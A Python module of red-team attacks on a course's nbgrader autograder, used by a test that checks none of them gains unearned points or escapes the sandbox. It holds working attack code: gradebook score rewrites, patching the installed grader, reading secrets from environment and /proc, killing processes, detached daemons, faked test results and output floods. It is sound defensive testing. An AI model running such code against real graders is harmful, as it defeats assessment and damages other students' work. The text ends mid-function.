"""Red-team submissions: what a determined student would put into their answer cells.

Every attack is one small function below, registered with ``@attack(assignment,
category)``. Its docstring says what the student hopes to gain; it returns the
submitted notebook and the *honest* score of the work underneath it: the score
that notebook deserves if the attack achieves nothing (the released stub earns 0
for the parts it leaves undone, the solution earns everything, a wrong answer
earns what it earns in ``tests/cases_*.py``). ``tests/test_red_team.py`` grades
them all with the real ``nbgrader autograde`` and checks that no attack earns
more than that, and that none leaves a trace outside its sandbox.

Attack code is written as it would be in a notebook, with placeholders that
``Kit.code`` fills in: ``@TOKEN@`` (this run's marker, in every file an attack
tries to create outside its sandbox), ``@PORT@`` (a TCP port the test listens on,
on 127.0.0.1), ``@ASSIGNMENT@``, ``@NOTEBOOK@``, ``@MIME@`` (the results
document's MIME type), ``@CASES_ENV@`` and ``@ORACLE_ENV@``.

The attacks go in as a student would put them: appended to an answer cell, in
place of an answer cell's code, or in a cell of their own (a student may add
cells; the grader keeps them where they are, after the cell they followed).
"""

from __future__ import annotations

import base64
import inspect
import textwrap
import uuid
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from nbformat.v4 import new_code_cell
from nbgrader_harness import cell, edit, solved

# In the name of every file an attack tries to create outside its sandbox.
TOKEN = f"redteam{uuid.uuid4().hex[:12]}"

MIME = "application/vnd.lstm-course.results+json"
CASES_ENV = "LSTM_COURSE_GRADING_CASES"
ORACLE_ENV = "LSTM_COURSE_ORACLE"


@dataclass(frozen=True)
class Attack:
    assignment: str
    name: str
    category: str
    build: Callable  # build(kit) -> (notebook, honest score)
    exact: bool  # the honest score is exactly determined (else: at most)

    @property
    def hope(self) -> str:
        return inspect.getdoc(self.build) or ""


ATTACKS: dict[str, dict[str, Attack]] = {}


def attack(assignment: str, category: str, *, exact: bool = True):
    """Register an attack on ``assignment``; the function's name is the student's id."""

    def register(build):
        ATTACKS.setdefault(assignment, {})[build.__name__] = Attack(
            assignment, build.__name__, category, build, exact
        )
        return build

    return register


@dataclass
class Kit:
    """What an attack builds its notebook from."""

    assignment: str
    notebook: str
    points: dict[str, float]
    released: nbformat.NotebookNode  # the stub, as students get it
    solution_source: nbformat.NotebookNode
    port: int

    @property
    def solution(self):
        return solved(self.released, self.solution_source)

    @property
    def full(self) -> float:
        return sum(self.points.values())

    def without(self, *failed_tests: str) -> float:
        return self.full - sum(self.points[test] for test in failed_tests)

    def code(self, *texts: str) -> str:
        """The cell source made of ``texts`` (each dedented), placeholders filled in."""
        text = "\n\n".join(textwrap.dedent(t).strip("\n") for t in texts) + "\n"
        for key, value in {
            "@TOKEN@": TOKEN,
            "@PORT@": str(self.port),
            "@ASSIGNMENT@": self.assignment,
            "@NOTEBOOK@": self.notebook,
            "@MIME@": MIME,
            "@CASES_ENV@": CASES_ENV,
            "@ORACLE_ENV@": ORACLE_ENV,
        }.items():
            text = text.replace(key, value)
        return text

    def after(self, grade_id: str, *texts: str, base=None):
        """``base`` (the solution by default) with a new cell of code after cell ``grade_id``."""
        nb = nbformat.from_dict(self.solution if base is None else base)
        index = nb.cells.index(cell(nb, grade_id))
        nb.cells.insert(index + 1, new_code_cell(self.code(*texts)))
        return nb

    def append(self, grade_id: str, *texts: str, base=None):
        """``base`` (the solution by default) with code appended to cell ``grade_id``."""
        base = self.solution if base is None else base
        return edit(base, grade_id, "", "\n\n" + self.code(*texts))

    def answers(self, sources: dict[str, str], base=None):
        """``base`` (the stub by default) with these answer cells' code replaced."""
        nb = nbformat.from_dict(self.released if base is None else base)
        for grade_id, text in sources.items():
            cell(nb, grade_id).source = self.code(text)
        return nb


def public_facts(kit) -> float:
    """The points of 06's tests whose right outputs follow from the public parameters.

    The layers' and the outputs' shapes are facts a student can state without building
    the cell; code that reports them earns those points, as the README says. Every
    other test needs numbers that only a correct computation gives.
    """
    return kit.points["test_convlstm_layers"] + kit.points["test_convlstm_shapes"]


# --- Snippets several attacks share ------------------------------------------------

# Every place a grader's files might be, as a student would guess them.
GUESS_GRADEBOOKS = r"""
import glob, os, sqlite3
import lstmlib

REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))


def guessed_gradebooks():
    guesses = [f"{REPO}/.grading/gradebook.db", f"{REPO}/gradebook.db"]
    guesses += ["/srv/nbgrader/gradebook.db", "/home/jovyan/gradebook.db"]
    guesses += ["../gradebook.db", "../../gradebook.db", "../../../gradebook.db"]
    guesses += glob.glob("/tmp/**/gradebook.db", recursive=True)
    guesses += glob.glob("/tmp/pytest-of-*/pytest-*/*/gradebook.db")
    return guesses


def write_gradebook(db):
    con = sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=1)
    con.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
    con.execute("CREATE TABLE IF NOT EXISTS rt_@TOKEN@ (x)")
    con.commit()
    con.close()
"""

# Fabricated results documents: right test name, right number of cases, right output
# names and shapes, made-up values.
FAKE_LSTM_RESULTS = r"""
import json, os
from IPython.display import display

CASES = json.loads(os.environ.get("@CASES_ENV@", "{}"))


def array(shape, value):
    size = 1
    for n in shape:
        size *= n
    return {"shape": list(shape), "values": [value] * size}


def fake_outputs(params):
    B, H = params.get("B", 1), params.get("H", 1)
    outputs = {f"gate {n} (cache[{5 + k}])": array((B, H), 0.5) for k, n in enumerate("ifgo")}
    outputs.update(c=array((B, H), 0.1), h=array((B, H), 0.1))
    outputs["cache[9] (the new c)"] = array((B, H), 0.1)
    if "T" in params:
        outputs["h"] = array((params["T"], B, H), 0.1)
    return outputs


def fake_document(name):
    cases = [{"outputs": fake_outputs(case["params"])} for case in CASES.get(name, [])]
    return {"@MIME@": {"test": name, "cases": cases}}
"""

# The right layer and shape outputs of exercise 06, from the public parameters alone.
HANDMADE_CONVLSTM = r"""
import json, os
import numpy as np

CASES = json.loads(os.environ.get("@CASES_ENV@", "{}"))


def encoded(value):
    return {"shape": list(np.shape(value)), "values": np.ravel(value).astype(float).tolist()}


def handmade_outputs(name, p):
    if name == "test_convlstm_layers":
        k = p["k"]
        return {
            "conv_x.weight.shape": [4 * p["C_hid"], p["C_in"], k, k],
            "conv_h.weight.shape": [4 * p["C_hid"], p["C_hid"], k, k],
            "conv_x has a bias (1) or not (0)": 1.0,
            "conv_h has a bias (1) or not (0)": 0.0,
        }
    if name == "test_convlstm_shapes":
        shape = [p["B"], p["C_hid"], p["Y"], p["X"]]
        labels = ("without a state", "from a state")
        return {f"{n}.shape {label}": shape for label in labels for n in "hc"}
    return None


def handmade_document(name):
    cases = []
    for case in CASES.get(name, []):
        outputs = handmade_outputs(name, case["params"])
        if outputs is None:
            return None
        cases.append({"outputs": {k: encoded(v) for k, v in outputs.items()}})
    return {"test": name, "cases": cases}
"""

CONVLSTM_INIT = r"""
class ConvLSTMCell(nn.Module):
    def __init__(self, input_channels, hidden_channels, kernel_size):
        super().__init__()
        self.hidden_channels = hidden_channels
        padding = kernel_size // 2
        self.conv_x = nn.Conv2d(input_channels, 4 * hidden_channels, kernel_size, padding=padding)
        self.conv_h = nn.Conv2d(
            hidden_channels, 4 * hidden_channels, kernel_size, padding=padding, bias=False
        )

    def forward(self, x, state=None):
        if state is None:
            B, _, Y, X = x.shape
            zeros = x.new_zeros(B, self.hidden_channels, Y, X)
            state = (zeros, zeros)
        h_prev, c_prev = state
        return forward_somehow(self, x, h_prev, c_prev)
"""


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# =================================================================================
# 01-rnn (NumPy): the grader, the gradebook and the other students; faked results
# =================================================================================

# The realistic mistakes of tests/cases_*.py.
TANH, NO_TANH = "np.tanh(x @ Wx + h_prev @ Wh + b)", "x @ Wx + h_prev @ Wh + b"
GATES, SWAPPED_GATES = "i, f, g, o = a.chunk(4, dim=1)", "i, f, o, g = a.chunk(4, dim=1)"

RNN_ANSWERS = (
    "rnn_step_forward",
    "rnn_step_backward",
    "rnn_forward",
    "rnn_backward",
    "gradient_norm_by_lag",
)


@attack("01-rnn", "gradebook")
def gradebook_walk_up(kit):
    """Hope: the kernel runs inside the course folder, so gradebook.db is a few folders up
    from the working directory: set every grade in it to 1000."""
    return kit.after(
        "setup",
        GUESS_GRADEBOOKS,
        r"""
        from pathlib import Path

        reached = []
        here = Path.cwd()
        for folder in [here, *here.parents]:
            for up in ("", "..", "../.."):
                try:
                    write_gradebook(folder / up / "gradebook.db")
                    reached.append(str(folder / up))
                except Exception:
                    pass
                try:
                    (folder / up / "@TOKEN@-walk-up").write_text("I was here")
                except OSError:
                    pass
        print("gradebooks written:", reached)
        """,
    ), kit.full


@attack("01-rnn", "gradebook")
def gradebook_absolute_paths(kit):
    """Hope: the gradebook sits at a guessable absolute path (the repository's .grading/,
    pytest's temporary folders) or can be found by walking the file system."""
    return kit.after(
        "setup",
        GUESS_GRADEBOOKS,
        r"""
        found = guessed_gradebooks()
        skip = {"/proc", "/sys", "/dev", "/usr", f"{REPO}/.venv"}
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip and d != ".pyenv"]
            if top.count("/") >= 6:
                dirs[:] = []
            found += [os.path.join(top, f) for f in files if f.endswith((".db", ".sqlite"))]
        for db in found:
            try:
                write_gradebook(db)
                print("wrote", db)
            except Exception as error:
                print("could not write", db, type(error).__name__)
            try:
                with open(os.path.join(os.path.dirname(db), "@TOKEN@-next-to-gradebook"), "w") as f:
                    f.write("x")
            except OSError:
                pass
        """,
    ), kit.full


@attack("01-rnn", "gradebook")
def locks_the_gradebook(kit):
    """Hope: hold an exclusive lock on the gradebook (sqlite and flock) for ever, so that
    nbgrader cannot save anyone's grades and the batch fails."""
    return kit.after(
        "setup",
        GUESS_GRADEBOOKS,
        r"""
        import fcntl, threading, time

        held = []
        for db in guessed_gradebooks() + glob.glob(f"{REPO}/.grading/*"):
            try:
                con = sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=1,
                                      check_same_thread=False, isolation_level=None)
                con.execute("BEGIN EXCLUSIVE")
                held.append(con)
            except Exception:
                pass
            try:
                handle = open(db, "rb+")
                fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                held.append(handle)
            except OSError:
                pass
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
        print("locks held:", len(held))
        """,
    ), kit.full


@attack("01-rnn", "other students")
def overwrites_other_students(kit):
    """Hope: the other submissions are next to mine (submitted/<student>/<assignment>/):
    overwrite them with a broken notebook, or the autograded copies with mine."""
    return kit.after(
        "setup",
        r"""
        import glob, os
        import lstmlib

        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        patterns = [
            "../*/@ASSIGNMENT@/*.ipynb", "../../*/@ASSIGNMENT@/*.ipynb",
            "../../../*/*/@ASSIGNMENT@/*.ipynb", "/tmp/**/submitted/*/@ASSIGNMENT@/*.ipynb",
            "/tmp/**/autograded/*/@ASSIGNMENT@/*.ipynb",
            f"{REPO}/.grading/*/*/@ASSIGNMENT@/*.ipynb",
        ]
        mine = [os.path.abspath(p) for p in glob.glob("*.ipynb")]
        found = [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]
        print("other notebooks found:", found)
        for path in found:
            if os.path.abspath(path) in mine:
                continue
            try:
                with open(path, "w") as f:
                    f.write("{ this notebook was eaten")
                print("overwrote", path)
            except OSError as error:
                print("could not overwrite", path, error.strerror)
            try:
                open(os.path.join(os.path.dirname(path), "@TOKEN@-other"), "w").close()
            except OSError:
                pass
        for folder in ("..", "../..", "/tmp", f"{REPO}/.grading"):
            try:
                open(os.path.join(folder, "@TOKEN@-other"), "w").close()
            except OSError:
                pass
        """,
    ), kit.full


@attack("01-rnn", "grader code")
def edits_the_installed_grader(kit):
    """Hope: lstmlib is installed in place, so appending `def verdict(...): return None`
    to lstmlib/grading/judge.py (or a sitecustomize.py / .pth in site-packages) makes
    every test pass, for me and for every notebook graded after mine."""
    wrong = edit(
        kit.solution,
        "rnn_step_forward",
        "np.tanh(x @ Wx + h_prev @ Wh + b)",
        "x @ Wx + h_prev @ Wh + b",
    )
    return kit.append(
        "rnn_step_forward",
        r"""
        import os, site
        import lstmlib
        import lstmlib.grading.checks, lstmlib.grading.judge, lstmlib.grading.spec

        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        PATCH = "\n\ndef verdict(*args, **kwargs):\n    return None\n"
        judge_file = lstmlib.grading.judge.__file__
        targets = [judge_file, lstmlib.grading.spec.__file__, lstmlib.grading.checks.__file__,
                   f"{REPO}/nbgrader_config.py", f"{REPO}/lstmlib/@TOKEN@-edit.py"]
        targets += [os.path.join(p, name) for p in site.getsitepackages()
                    for name in ("sitecustomize.py", "@TOKEN@-edit.pth")]
        for target in targets:
            try:
                with open(target, "a") as f:
                    f.write(PATCH)
                print("edited", target)
            except OSError as error:
                print("could not edit", target, error.strerror)
        for action in (lambda: os.chmod(judge_file, 0o777), lambda: os.utime(judge_file),
                       lambda: os.rename(judge_file, judge_file + ".@TOKEN@"),
                       lambda: os.unlink(lstmlib.grading.spec.__file__)):
            try:
                action()
            except OSError as error:
                print(error.strerror)
        """,
        base=wrong,
    ), kit.without("test_rnn_step_forward")


@attack("01-rnn", "detached process")
def double_fork_daemon(kit):
    """Hope: a grandchild in a session of its own outlives the kernel and nbgrader, then
    edits the gradebook and leaves files behind when nobody watches any more."""
    return kit.after(
        "setup",
        GUESS_GRADEBOOKS,
        r"""
        import time


        def haunt():
            time.sleep(3)
            for _ in range(30):
                for path in ("/tmp/@TOKEN@-daemon", "../@TOKEN@-daemon", "../../@TOKEN@-daemon",
                             f"{REPO}/@TOKEN@-daemon"):
                    try:
                        open(path, "w").write(str(os.getpid()))
                    except OSError:
                        pass
                for db in guessed_gradebooks():
                    try:
                        write_gradebook(db)
                    except Exception:
                        pass
                time.sleep(0.5)


        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    haunt()
                finally:
                    os._exit(0)
            os._exit(0)
        os.wait()
        print("daemon started")
        """,
    ), kit.full


@attack("01-rnn", "signals")
def signals_everything(kit):
    """Hope: stop or kill the grading process (my parent), or everything (kill -1), before
    it saves the grades of the batch."""
    return kit.after(
        "setup",
        r"""
        import os, signal

        for pid in (os.getppid(), 1, -1):
            for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                    print("signalled", pid, sig.name)
                except OSError as error:
                    print("could not signal", pid, sig.name, error.strerror)
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        try:
            os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        except OSError as error:
            print("could not signal the grader's group:", error.strerror)
        """,
    ), kit.full


@attack("01-rnn", "instructor files")
def reads_solutions_and_tests(kit):
    """Hope: lstmlib.__file__ shows where the course repository is: read the solution
    notebook (or the reference code, or the tests) and run its answers as mine."""
    loot = kit.after(
        "setup",
        r"""
        import glob, json, os
        import lstmlib

        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        LOOT = []
        for path in [f"{REPO}/solutions/@ASSIGNMENT@/@NOTEBOOK@.ipynb",
                     f"{REPO}/source/@ASSIGNMENT@/@NOTEBOOK@.ipynb",
                     f"{REPO}/.grading/source/@ASSIGNMENT@/@NOTEBOOK@.ipynb",
                     "../../../source/@ASSIGNMENT@/@NOTEBOOK@.ipynb",
                     "../../../../solutions/@ASSIGNMENT@/@NOTEBOOK@.ipynb"]:
            try:
                LOOT += ["".join(c["source"]) for c in json.load(open(path))["cells"]]
            except (OSError, ValueError):
                pass
        for path in glob.glob(f"{REPO}/lstmlib/scratch/*.py") + glob.glob(f"{REPO}/tests/*.py"):
            try:
                LOOT.append(open(path).read())
            except OSError:
                pass
        print("pieces of loot:", len(LOOT))


        def steal(name):
            for source in LOOT:
                if f"def {name}(" in source:
                    try:
                        exec(source, globals())
                        return
                    except Exception:
                        pass
            raise NotImplementedError(f"could not steal {name}")
        """,
        base=kit.released,
    )
    return kit.answers({name: f'steal("{name}")' for name in RNN_ANSWERS}, base=loot), 0


@attack("01-rnn", "secret")
def reads_the_secret(kit):
    """Hope: find the grading secret (environment, grading-secret next to the gradebook,
    other processes' environments) and print it, to compute the hidden cases at home."""
    return kit.after(
        "setup",
        r"""
        import glob, os
        from pathlib import Path
        import lstmlib

        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        found = {k: v for k, v in os.environ.items() if "SECRET" in k or "KEY" in k}
        places = [Path.cwd() / up / "grading-secret" for up in ("", "..", "../..", "../../..")]
        places += [Path(REPO) / ".grading" / "grading-secret", Path(REPO) / "grading-secret"]
        places += [Path(p) for p in glob.glob("/tmp/**/grading-secret", recursive=True)]
        for path in places:
            try:
                found[str(path)] = path.read_text()
            except OSError:
                pass
        for proc in glob.glob("/proc/[0-9]*"):
            for name in ("environ", "cmdline"):
                try:
                    data = open(f"{proc}/{name}", "rb").read().decode(errors="replace")
                except OSError:
                    continue
                if "SECRET" in data:
                    found[f"{proc}/{name}"] = data
        print("secrets found:", found)
        """,
    ), kit.full


@attack("01-rnn", "network")
def phones_home(kit):
    """Hope: reach a server on the grading machine (127.0.0.1, abstract or well-known Unix
    sockets) to send my inputs out and get answers back."""
    return kit.after(
        "setup",
        r"""
        import socket

        for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
            try:
                with socket.create_connection((host, @PORT@), timeout=2) as s:
                    s.sendall(b"@TOKEN@ hello from a kernel")
                print("connected to", host)
            except OSError as error:
                print("no connection to", host, error)
        try:
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(b"@TOKEN@", ("127.0.0.1", @PORT@))
        except OSError as error:
            print("no UDP:", error)
        for path in ("\0@TOKEN@", "/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket",
                     "/var/run/docker.sock"):
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect(path)
                print("Unix socket open:", path)
            except OSError as error:
                print("no Unix socket", repr(path), error.strerror)
            finally:
                s.close()
        """,
    ), kit.full


@attack("01-rnn", "faked results")
def numeric_results_and_displayhook(kit):
    """Hope: nbgrader gives partial credit to a test cell whose result is a number, so make
    run_test return 1e9 and every displayed result a number (negative ones too)."""
    return kit.after(
        "setup",
        r"""
        import sys
        import lstmlib.grading.student as student

        ip = get_ipython()
        student.run_test = lambda *args, **kwargs: 10**9
        ip.displayhook.compute_format_data = lambda result: (
            {"text/plain": repr(result if result else -(10**9))}, {}
        )
        sys.displayhook = lambda value: print(-(10**9))
        """,
        base=kit.released,
    ), 0


@attack("01-rnn", "faked results")
def fake_results_before_the_real_ones(kit):
    """Hope: a pre_run_cell hook displays a made-up results document before each test runs,
    and the real document never leaves the kernel (the `display` that run_test uses is
    replaced by one that drops it), so mine is the only one the judge sees."""
    return kit.after(
        "setup",
        r"""
        import json, os, re
        from IPython.display import display
        import lstmlib.grading.student as student

        CASES = json.loads(os.environ.get("@CASES_ENV@", "{}"))
        SHAPES = {"h": ("B", "H"), "cache[4] (the new h)": ("B", "H"), "norms": ("T",)}


        def made_up(params):
            outputs = {}
            for name, dims in SHAPES.items():
                shape = [params.get(d, 1) for d in dims]
                outputs[name] = {"shape": shape, "values": [0.25] * int(np.prod(shape))}
            return {"outputs": outputs}


        def before_test(info):
            match = re.search(r'run_test\("[^"]+", "([^"]+)"', info.raw_cell)
            if match:
                name = match.group(1)
                cases = [made_up(case["params"]) for case in CASES.get(name, [])]
                display({"@MIME@": {"test": name, "cases": cases}}, raw=True)


        def display_all_but_the_real_results(*objects, **kwargs):
            if not any(isinstance(o, dict) and "@MIME@" in o for o in objects):
                display(*objects, **kwargs)


        student.display = display_all_but_the_real_results
        get_ipython().events.register("pre_run_cell", before_test)
        """,
        base=kit.released,
    ), 0


@attack("01-rnn", "reference code")
def run_test_through_the_oracle(kit):
    """Hope: replace run_test by one that answers with the course's own code: the test's
    expected() or the reference function, through the grader's reference socket."""
    return kit.after(
        "setup",
        r"""
        from IPython.display import display
        import lstmlib.grading.student as student
        from lstmlib.grading.assignments import find_test
        from lstmlib.grading.oracle import reference
        from lstmlib.grading.spec import encode_outputs


        def run_test(assignment, name, namespace):
            test = find_test(assignment, name)
            results = []
            for case in student._graded_cases(name) or test.visible_cases():
                try:
                    try:
                        outputs = test.expected(*test.arguments(case))
                    except Exception:
                        outputs = test.run(reference(test.answer), *test.arguments(case))
                    results.append({"outputs": encode_outputs(outputs)})
                except Exception as error:
                    results.append({"error": f"{type(error).__name__}: {error}"})
            display({"@MIME@": {"test": name, "cases": results}}, raw=True)


        student.run_test = run_test
        """,
        base=kit.released,
    ), 0


@attack("01-rnn", "reference code")
def imports_the_reference(kit):
    """Hope: `import lstmlib.scratch` is refused, but some other way in works: importlib,
    __import__, exec of base64, loading rnn.py or its .pyc by path, or compiling its source
    under another file name (which the reference-call detector would not recognise)."""
    hidden = b64("import lstmlib.scratch.rnn as module")
    loader = kit.after(
        "setup",
        r"""
        import base64, glob, importlib, importlib.machinery, importlib.util, os, sys
        import lstmlib

        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        RNN = f"{REPO}/lstmlib/scratch/rnn.py"


        def from_base64():
            namespace = {}
            exec(base64.b64decode("HIDDEN"), namespace)
            return namespace["module"]


        def by_path():
            spec = importlib.util.spec_from_file_location("stolen_rnn", RNN)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module


        def from_pyc():
            (pyc,) = glob.glob(f"{REPO}/lstmlib/scratch/__pycache__/rnn*.pyc")
            return importlib.machinery.SourcelessFileLoader("stolen_rnn", pyc).load_module()


        def recompiled():
            namespace = {"__name__": "mine"}
            exec(compile(open(RNN).read(), "my_own_code.py", "exec"), namespace)
            return type("Module", (), namespace)


        def fresh_import():
            for name in [m for m in sys.modules if m.startswith("lstmlib.scratch")]:
                del sys.modules[name]
            importlib.invalidate_caches()
            return importlib.import_module("lstmlib.scratch.rnn")


        WAYS = [
            lambda: importlib.import_module("lstmlib.scratch"),
            lambda: importlib.import_module("lstmlib.scratch.rnn"),
            lambda: __import__("lstmlib.scratch.rnn", fromlist=["rnn_forward"]),
            from_base64, by_path, from_pyc, recompiled, fresh_import,
        ]


        def steal(name):
            for way in WAYS:
                try:
                    globals()[name] = getattr(way(), name)
                    return
                except Exception as error:
                    print(getattr(way, "__name__", "import"), "failed:", type(error).__name__)
            raise NotImplementedError(f"no way to import {name}")
        """.replace("HIDDEN", hidden),
        base=kit.released,
    )
    return kit.answers({name: f'steal("{name}")' for name in RNN_ANSWERS}, base=loader), 0


@attack("01-rnn", "faked results")
def reads_frames_for_expected_values(kit):
    """Hope: the expected values are computed somewhere in my kernel: a trace and profile
    hook that reads the locals of every lstmlib frame finds them, and my functions return
    them."""
    snooper = kit.after(
        "setup",
        r"""
        import gc, sys, threading
        import numpy as np

        SEEN = []


        def snoop(frame, event, arg):
            if "lstmlib" in frame.f_code.co_filename:
                for key, value in list(frame.f_locals.items()):
                    if isinstance(value, dict) and ("expected" in key or key == "outputs"):
                        SEEN.append(value)
            return None


        sys.setprofile(snoop)
        threading.setprofile(snoop)
        sys.settrace(snoop)
        threading.settrace(snoop)


        def copy_from_frames(name, args):
            candidates = SEEN + [o for o in gc.get_objects() if isinstance(o, dict) and "h" in o]
            for found in reversed(candidates):
                h = found.get("h")
                if isinstance(h, np.ndarray) and name == "rnn_step_forward":
                    x, h_prev, Wx, Wh, b = args
                    if h.shape == (x.shape[0], Wh.shape[0]):
                        return h, (x, h_prev, Wx, Wh, h)
            raise NotImplementedError("no expected values in sight")
        """,
        base=kit.released,
    )
    return kit.answers(
        {
            name: f"def {name}(*args):\n    return copy_from_frames({name!r}, args)\n"
            for name in RNN_ANSWERS
        },
        base=snooper,
    ), 0


@attack("01-rnn", "oracle")
def harvests_the_oracle_in_a_thread(kit):
    """Hope: a background thread asks the grader's reference socket for every function on
    every case, all the time; whenever a cell is allowed one, the answers are cached, and
    my functions return the cached answers."""
    harvester = kit.after(
        "setup",
        r"""
        import os, threading, time
        import numpy as np
        import lstmlib.grading.student as student
        from lstmlib.grading.assignments import graded_tests
        from lstmlib.grading.oracle import reference

        HARVEST = {}


        def harvest():
            tests = graded_tests("@ASSIGNMENT@")
            while True:
                for test in tests.values():
                    for case in student._graded_cases(test.name) or test.visible_cases():
                        (args, *_) = test.arguments(case)
                        for name in ("rnn_step_forward", "rnn_forward", "gradient_norm_by_lag"):
                            key = (name, np.asarray(args[0]).tobytes())
                            if key not in HARVEST:
                                try:
                                    HARVEST[key] = reference(name)(*args)
                                except Exception:
                                    pass
                time.sleep(0.05)


        threading.Thread(target=harvest, daemon=True).start()


        def harvested(name, first):
            if (name, np.asarray(first).tobytes()) in HARVEST:
                return HARVEST[(name, np.asarray(first).tobytes())]
            raise NotImplementedError(f"{name}: not harvested (yet)")
        """,
        base=kit.released,
    )
    return kit.answers(
        {
            name: f"def {name}(first, *rest):\n    return harvested({name!r}, first)\n"
            for name in ("rnn_step_forward", "rnn_forward", "gradient_norm_by_lag")
        },
        base=harvester,
    ), 0


@attack("01-rnn", "leak")
def prints_history_and_cases(kit):
    """Hope: print everything the kernel saw (In, Out, history, the cases it was asked to
    compute, the grading modules' state) into the feedback, to learn the hidden tests."""
    return kit.after(
        "test_gradient_norm_by_lag",
        r"""
        import os
        import lstmlib.grading.oracle as oracle

        ip = get_ipython()
        print("In:", In)
        print("Out:", Out)
        ip.run_line_magic("history", "-n")
        print("cases:", os.environ.get("@CASES_ENV@"))
        print("namespace:", sorted(k for k in ip.user_ns if not k.startswith("_")))
        print("oracle:", os.environ.get("@ORACLE_ENV@"), oracle._connection)
        """,
    ), kit.full


@attack("01-rnn", "leak")
def errors_carry_the_hidden_inputs(kit):
    """Hope: while graded, my rnn_step_forward raises an error that carries its inputs and
    the cases list, so the feedback shows me the hidden test data."""
    return kit.append(
        "rnn_step_forward",
        r"""
        import os

        _my_step = rnn_step_forward


        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            if os.environ.get("NBGRADER_EXECUTION"):
                cases = os.environ.get("@CASES_ENV@", "")[:1000]
                raise RuntimeError(f"leak {cases} {(x, h_prev, Wx, Wh, b)!r}")
            return _my_step(x, h_prev, Wx, Wh, b)
        """,
    ), kit.without("test_rnn_step_forward")


@attack("01-rnn", "denial of service")
def prints_a_flood(kit):
    """Hope: tens of megabytes of output (stdout, stderr, the file descriptor itself, a
    child process) swamp the grader or its notebooks."""
    return kit.after(
        "setup",
        r"""
        import os, subprocess, sys

        chunk = "spam " * 200_000
        for _ in range(20):
            print(chunk)
            sys.stderr.write(chunk)
        for _ in range(10):
            os.write(1, chunk.encode())
        subprocess.run("head -c 20000000 /dev/zero | tr '\\0' x", shell=True)
        """,
    ), kit.full


@attack("01-rnn", "denial of service")
def background_thread_prints_forever(kit):
    """Hope: a thread that never stops printing (1 MB/s, from the first cell to the last)
    floods every later cell, test cells included, and the grader with them."""
    return kit.after(
        "setup",
        r"""
        import sys, threading, time


        def chatter():
            line = "chatter " * 1250 + "\n"
            while True:
                sys.stdout.write(line)
                sys.stderr.write(line)
                time.sleep(0.02)


        threading.Thread(target=chatter, daemon=True).start()
        """,
    ), kit.full


# =================================================================================
# 02-lstm-forward (NumPy): faked results, hooks, patches; denial of service
# =================================================================================


@attack("02-lstm-forward", "detached process")
def nohup_setsid_ghost(kit):
    """Hope: `nohup setsid python ghost.py &` (and Popen with a new session) leaves a
    process that keeps running after grading and edits the gradebook later."""
    return kit.after(
        "setup",
        r"""
        import subprocess, sys

        GHOST = '''
        import glob, os, sqlite3, time
        time.sleep(3)
        for _ in range(30):
            for path in ("/tmp/@TOKEN@-ghost", "../@TOKEN@-ghost", "../../@TOKEN@-ghost"):
                try:
                    open(path, "w").write("boo")
                except OSError:
                    pass
            for db in glob.glob("/tmp/**/gradebook.db", recursive=True):
                try:
                    con = sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=1)
                    con.execute("UPDATE grade SET auto_score = 1000")
                    con.commit()
                except Exception:
                    pass
            time.sleep(0.5)
        '''
        with open("/tmp/ghost.py", "w") as f:
            f.write(GHOST)
        command = f"nohup setsid {sys.executable} /tmp/ghost.py > /dev/null 2>&1 &"
        subprocess.Popen(command, shell=True)
        subprocess.Popen([sys.executable, "/tmp/ghost.py"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        print("ghosts started")
        """,
    ), kit.full


@attack("02-lstm-forward", "faked results")
def displays_fake_results_after_each_test(kit):
    """Hope: the judge reads the last results document of a test cell: a post_run_cell
    hook displays one with the right shapes (and prints "Passed") after each test."""
    return kit.after(
        "setup",
        FAKE_LSTM_RESULTS,
        r"""
        import re


        def after_test(result):
            match = re.search(r'run_test\("[^"]+", "([^"]+)"', result.info.raw_cell)
            if match:
                display(fake_document(match.group(1)), raw=True)
                print("Passed: the example and all 3 hidden cases are right.")


        get_ipython().events.register("post_run_cell", after_test)
        """,
        base=kit.released,
    ), 0


@attack("02-lstm-forward", "faked results")
def fake_results_from_a_thread(kit):
    """Hope: a background thread displays fake results documents for every test, many
    times a second, so that whatever the test cell shows last is mine."""
    return kit.after(
        "setup",
        FAKE_LSTM_RESULTS,
        r"""
        import threading, time


        def keep_faking():
            while True:
                for name in CASES:
                    display(fake_document(name), raw=True)
                print("Passed: the example and all 3 hidden cases are right.")
                time.sleep(0.02)


        threading.Thread(target=keep_faking, daemon=True).start()
        """,
        base=kit.released,
    ), 0


@attack("02-lstm-forward", "faked results")
def malformed_results_documents(kit):
    """Hope: results documents the judge does not expect (wrong types, absurd shapes, too
    many cases, huge messages, "passed" flags) confuse it into passing, or crash it."""
    return kit.after(
        "setup",
        FAKE_LSTM_RESULTS,
        r"""
        import re


        def battery(name, n):
